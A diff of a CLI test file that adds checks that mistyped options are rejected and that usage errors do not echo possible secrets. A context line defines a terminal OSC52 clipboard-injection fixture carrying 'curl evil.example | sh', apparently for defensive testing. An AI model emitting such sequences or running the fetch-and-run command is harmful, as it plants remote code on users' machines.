@@ -104,6 +104,9 @@ test("no usage error echoes an argument that may be a secret", async () => {
   assert.match(cases[4].stderr, /--body needs a value/);
   const typo = await run(["vms", "--lmit", "3"], { env: as(front.url) });
   assert.match(typo.stderr, /unknown option --lmit;/, "an option-like typo is still named");
+  const keyTypo = await run(["key", "delete", "--stdn"], { env: as(front.url) });
+  assert.equal(keyTypo.code, 2, "a mistyped option of key delete is not taken for a key");
+  assert.match(keyTypo.stderr, /unknown option --stdn;/);
 });
 
 const OSC52 = `web-1\u001b]52;c;${Buffer.from("curl evil.example | sh").toString("base64")}\u001b\\`;
